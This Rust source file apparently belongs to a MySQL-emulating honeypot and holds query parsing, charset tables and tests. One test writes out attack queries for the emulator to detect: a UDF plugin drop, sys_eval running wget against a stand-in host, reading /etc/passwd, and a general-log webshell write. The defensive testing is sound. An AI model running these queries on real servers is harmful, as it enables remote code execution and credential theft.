fn split_alias(item: &[Token]) -> (&[Token], Option<String>) {
    let n = item.len();
    if n >= 3 && is_kw(item.get(n - 2), "as") {
        return (&item[..n - 2], name_of(item.get(n - 1)));
    }
    if n >= 2 {
        let last = &item[n - 1];
        let prev = &item[n - 2];
        let prev_is_value = !matches!(&prev.tok, Tok::Op(o) if o != ")");
        let alias = match &last.tok {
            Tok::Ident(w) => Some(w.clone()),
            Tok::Word(w) if !RESERVED_TAIL.contains(&w.to_ascii_lowercase().as_str()) => {
                Some(w.clone())
            }
            Tok::Str(s) if !matches!(prev.tok, Tok::Str(_)) => {
                Some(String::from_utf8_lossy(s).into_owned())
            }
            _ => None,
        };
        if let (Some(a), true) = (alias, prev_is_value) {
            return (&item[..n - 1], Some(a));
        }
    }
    (item, None)
}

const RESERVED_TAIL: &[&str] = &["null", "true", "false", "desc", "asc", "and", "or", "not"];

/// The column name MySQL gives an unaliased item: the text as typed, or a
/// string literal's value.
fn item_name(sql: &[u8], item: &[Token]) -> String {
    if let [one] = item
        && let Tok::Str(s) = &one.tok
    {
        return String::from_utf8_lossy(s).into_owned();
    }
    let raw = text(sql, item, 0, item.len().saturating_sub(1));
    String::from_utf8_lossy(&raw[..raw.len().min(256)]).into_owned()
}

fn arith(a: &Val, b: &Val, op: &str) -> Val {
    match (a.as_i64(), b.as_i64()) {
        (Some(x), Some(y)) => match op {
            "+" => Val::int(x.wrapping_add(y)),
            "-" => Val::int(x.wrapping_sub(y)),
            "*" => Val::int(x.wrapping_mul(y)),
            "%" if y != 0 => Val::int(x.wrapping_rem(y)),
            "/" if y != 0 => Val {
                bytes: Some(format!("{:.4}", x as f64 / y as f64).into_bytes()),
                kind: Kind::Dec,
                not_null: true,
                chars: None,
            },
            _ => Val::null(),
        },
        _ => Val::null(),
    }
}

/// Not MD5: MySQL's MD5() answer only has to look like one; a keyed
/// SHA-256 prefix keeps the dependency list short.
fn md5_like(data: &[u8]) -> [u8; 16] {
    use sha2::Digest as _;
    let d = sha2::Sha256::digest(data);
    let mut out = [0u8; 16];
    out.copy_from_slice(&d[..16]);
    out
}

fn cap(s: &str, n: usize) -> String {
    s.chars().take(n).collect()
}

/// A collation id for a character set name (`SET NAMES`).
pub fn charset_id(name: &str) -> Option<u16> {
    Some(match name.to_ascii_lowercase().as_str() {
        "utf8mb4" => 45,
        "utf8" | "utf8mb3" => 33,
        "latin1" => 8,
        "binary" => 63,
        "ascii" => 11,
        "gbk" => 28,
        "big5" => 1,
        "sjis" => 13,
        "cp1251" => 51,
        "ucs2" => 35,
        "utf16" => 54,
        "utf32" => 60,
        "gb2312" => 24,
        "euckr" => 19,
        _ => return None,
    })
}

/// The character set name of a collation id.
pub fn charset_name(id: u16) -> &'static str {
    match id {
        45 | 46 | 224..=247 | 255..=323 => "utf8mb4",
        33 | 83 | 192..=215 => "utf8mb3",
        8 | 5 | 15 | 31 | 47 | 48 | 49 | 94 => "latin1",
        63 => "binary",
        11 | 65 => "ascii",
        28 | 87 => "gbk",
        1 | 84 => "big5",
        13 | 88 => "sjis",
        51 => "cp1251",
        _ => "utf8mb4",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mysql::MysqlEmulator;

    fn session(db: Option<&str>) -> SqlSession {
        SqlSession {
            db: db.map(str::to_owned),
            autocommit: true,
            in_trans: false,
            charset: 45,
            track: true,
            multi_statements: false,
            user: "root".into(),
            peer: "203.0.113.9".parse().unwrap(),
            conn_id: 9,
            port: 3306,
        }
    }

    fn run(emu: &MysqlEmulator, sess: &mut SqlSession, sql: &str) -> (Vec<Reply>, Effects) {
        let mut e = Engine::new(emu.server(), sess);
        let r = e.run(sql.as_bytes());
        (r, e.effects)
    }

    fn rows(r: &Reply) -> Vec<Vec<Option<String>>> {
        match r {
            Reply::Rows(rs) => rs
                .rows
                .iter()
                .map(|row| {
                    row.iter()
                        .map(|v| v.as_ref().map(|b| String::from_utf8_lossy(b).into_owned()))
                        .collect()
                })
                .collect(),
            other => panic!("not rows: {other:?}"),
        }
    }

    fn code(r: &Reply) -> u16 {
        match r {
            Reply::Err(e) => e.code,
            other => panic!("not an error: {other:?}"),
        }
    }

    #[test]
    fn answers_what_clients_send_at_connect() {
        let emu = MysqlEmulator::new(mirage_config::MysqlConfig::default());
        let mut s = session(None);
        let (r, _) = run(&emu, &mut s, "select @@version_comment limit 1");
        assert_eq!(
            rows(&r[0]),
            vec![vec![Some("MySQL Community Server - GPL".into())]]
        );
        let (r, _) = run(&emu, &mut s, "SELECT VERSION(), DATABASE(), 1+2, 'x' AS y");
        assert_eq!(
            rows(&r[0]),
            vec![vec![
                Some("8.0.36".into()),
                None,
                Some("3".into()),
                Some("x".into())
            ]]
        );
        let Reply::Rows(rs) = &r[0] else { panic!() };
        assert_eq!(rs.columns[0].name, "VERSION()");
        assert_eq!(rs.columns[3].name, "y");
        assert_eq!(code(&run(&emu, &mut s, "SHOW TABLES").0[0]), 1046);
        assert!(
            matches!(run(&emu, &mut s, "USE shop").0[0], Reply::Ok { ref track, .. } if !track.is_empty())
        );
        assert_eq!(s.db.as_deref(), Some("shop"));
        let (r, _) = run(&emu, &mut s, "show tables like 'u%'");
        assert_eq!(rows(&r[0]), vec![vec![Some("users".into())]]);
        let (r, _) = run(&emu, &mut s, "select username from users where id = 2");
        assert_eq!(rows(&r[0]), vec![vec![Some("jwilson".into())]]);
        let (r, _) = run(&emu, &mut s, "select * from users limit 1, 1");
        assert_eq!(rows(&r[0]).len(), 1);
        let (r, _) = run(&emu, &mut s, "select count(*) from shop.orders");
        assert_eq!(rows(&r[0]), vec![vec![Some("2".into())]]);
        assert_eq!(code(&run(&emu, &mut s, "select * from nothere").0[0]), 1146);
        assert_eq!(
            code(&run(&emu, &mut s, "select nope from users").0[0]),
            1054
        );
        assert_eq!(code(&run(&emu, &mut s, "selec 1").0[0]), 1064);
        assert_eq!(code(&run(&emu, &mut s, " -- nothing\n").0[0]), 1065);
        assert_eq!(code(&run(&emu, &mut s, "select 1; select 2").0[0]), 1064);
        s.multi_statements = true;
        assert_eq!(run(&emu, &mut s, "select 1; select 2").0.len(), 2);
        let (r, _) = run(&emu, &mut s, "SET NAMES utf8mb4");
        assert!(matches!(&r[0], Reply::Ok { track, .. } if !track.is_empty()));
        let (r, _) = run(&emu, &mut s, "show variables like 'version%'");
        assert_eq!(rows(&r[0]).len(), 2);
        let (r, _) = run(
            &emu,
            &mut s,
            "select schema_name from information_schema.schemata",
        );
        assert_eq!(rows(&r[0]).len(), 5);
    }

    #[test]
    fn udf_chain_and_file_access_are_attacks() {
        let emu = MysqlEmulator::new(mirage_config::MysqlConfig::default());
        let mut s = session(Some("mysql"));
        let (_, fx) = run(
            &emu,
            &mut s,
            "select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/lib_mysqludf_sys.so'",
        );
        assert_eq!(fx.attacks[0].technique, "mysql.file_write");
        assert_eq!(fx.attacks[0].evidence["class"], "udf");
        assert_eq!(fx.payloads, vec![b"\x7fELF".to_vec()]);
        // Before CREATE FUNCTION the function does not exist.
        assert_eq!(code(&run(&emu, &mut s, "select sys_eval('id')").0[0]), 1305);
        let (_, fx) = run(
            &emu,
            &mut s,
            "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so'",
        );
        assert_eq!(fx.attacks[0].technique, "mysql.udf");
        // The UDF is server-wide: another session can call it.
        let mut other = session(None);
        let (r, fx) = run(
            &emu,
            &mut other,
            "select sys_eval('wget http://198.51.100.7/x -O /tmp/x')",
        );
        assert!(matches!(r[0], Reply::Rows(_)));
        assert_eq!(fx.attacks[0].technique, "mysql.udf_exec");
        assert_eq!(
            fx.attacks[0].evidence["command"],
            "wget http://198.51.100.7/x -O /tmp/x"
        );
        let (r, fx) = run(&emu, &mut s, "select load_file('/etc/passwd')");
        assert_eq!(rows(&r[0]), vec![vec![None]]);
        assert_eq!(fx.attacks[0].technique, "mysql.file_read");
        let (_, fx) = run(
            &emu,
            &mut s,
            "set global general_log_file='/var/www/html/s.php'",
        );
        assert_eq!(fx.attacks[0].technique, "mysql.log_file_write");
        assert_eq!(fx.attacks[0].evidence["class"], "webshell");
        let (_, fx) = run(&emu, &mut s, "select sleep(2)");
        assert_eq!(fx.sleep, Duration::from_secs(2));
    }

    #[test]
    fn deep_nesting_is_refused_not_recursed() {
        let emu = MysqlEmulator::new(mirage_config::MysqlConfig::default());
        let mut s = session(None);
        for q in [
            "(".repeat(20_000),
            format!("{}select 1{}", "(".repeat(5000), ")".repeat(5000)),
            format!("select {}1{}", "(select ".repeat(5000), ")".repeat(5000)),
            format!("select {}1{}", "(".repeat(5000), ")".repeat(5000)),
            format!("select {}1{}", "concat(".repeat(5000), ")".repeat(5000)),
        ] {
            let _ = run(&emu, &mut s, &q);
        }
        let (r, _) = run(&emu, &mut s, "((select 5))");
        assert_eq!(rows(&r[0]), vec![vec![Some("5".into())]]);
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_queries_never_panic(q in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200)) {
            let emu = MysqlEmulator::new(mirage_config::MysqlConfig::default());
            let mut s = session(Some("shop"));
            s.multi_statements = true;
            let mut e = Engine::new(emu.server(), &mut s);
            let _ = e.run(&q);
        }

        #[test]
        fn sql_like_queries_never_panic(parts in proptest::collection::vec(proptest::prop_oneof![
            proptest::strategy::Just("select "), proptest::strategy::Just("from "), proptest::strategy::Just("users "),
            proptest::strategy::Just("where "), proptest::strategy::Just("= "), proptest::strategy::Just("'x' "),
            proptest::strategy::Just("( "), proptest::strategy::Just(") "), proptest::strategy::Just(", "),
            proptest::strategy::Just("limit "), proptest::strategy::Just("1 "), proptest::strategy::Just("into "),
            proptest::strategy::Just("dumpfile "), proptest::strategy::Just("show "), proptest::strategy::Just("set "),
            proptest::strategy::Just("@@version "), proptest::strategy::Just("concat("), proptest::strategy::Just("; "),
            proptest::strategy::Just("* "), proptest::strategy::Just("- "), proptest::strategy::Just("as "),
        ], 0..30)) {
            let emu = MysqlEmulator::new(mirage_config::MysqlConfig::default());
            let mut s = session(Some("shop"));
            s.multi_statements = true;
            let q: String = parts.concat();
            let mut e = Engine::new(emu.server(), &mut s);
            let _ = e.run(q.as_bytes());
        }
    }

    fn words(sql: &str) -> Vec<Tok> {
        tokenize(sql.as_bytes())
            .into_iter()
            .map(|t| t.tok)
            .collect()
    }

    #[test]
    fn tokenizer_follows_mysql_lexing() {
        assert_eq!(
            words(
                "select 'a''b\\n', `x``y`, 0x4142, x'43', @@SESSION.Version, @u -- c\n# d\n/* e */ 1.5e3"
            ),
            vec![
                Tok::Word("select".into()),
                Tok::Str(b"a'b\n".to_vec()),
                Tok::Op(",".into()),
                Tok::Ident("x`y".into()),
                Tok::Op(",".into()),
                Tok::Hex(b"AB".to_vec()),
                Tok::Op(",".into()),
                Tok::Hex(b"C".to_vec()),
                Tok::Op(",".into()),
                Tok::SysVar("version".into()),
                Tok::Op(",".into()),
                Tok::UserVar("u".into()),
                Tok::Num("1.5e3".into()),
            ]
        );
        // Executable comments run; `--x` is not a comment.
        assert_eq!(words("/*!40101 SET NAMES utf8 */").len(), 3);
        assert_eq!(words("1--1").len(), 4);
        // Unterminated things end at the end.
        assert_eq!(words("'abc").len(), 1);
        assert_eq!(words("/* x").len(), 0);
    }

    #[test]
    fn like_matches() {
        assert!(like(b"%sql%", b"MySQL"));
        assert!(like(b"ver_ion", b"version"));
        assert!(!like(b"v%z", b"version"));
        assert!(like(b"a\\_b", b"a_b"));
        assert!(!like(b"a\\_b", b"axb"));
        assert!(like(b"%", b""));
        assert!(like(b"a%%", b"a"));
        assert!(!like(b"a_", b"a"));
        // Pathological patterns are cheap and shallow.
        let p = "%a".repeat(100_000);
        assert!(!like(p.as_bytes(), &[b'a'; 200]));
        assert!(like(b"%a%b%c", b"xxaxxbxxc"));
    }

    #[test]
    fn first_keyword_names_events() {
        assert_eq!(first_keyword(b"  /* hi */ SELECT 1"), "select");
        assert_eq!(first_keyword(b"(select 1)"), "query");
        assert_eq!(first_keyword(b""), "query");
    }

    #[test]
    fn aliases() {
        let t = tokenize(b"version() as v");
        assert_eq!(split_alias(&t).1.as_deref(), Some("v"));
        let t = tokenize(b"1 one");
        assert_eq!(split_alias(&t).1.as_deref(), Some("one"));
        let t = tokenize(b"'a' 'b'");
        assert_eq!(split_alias(&t).1, None);
        let t = tokenize(b"@@version_comment");
        assert_eq!(split_alias(&t).1, None);
    }
}
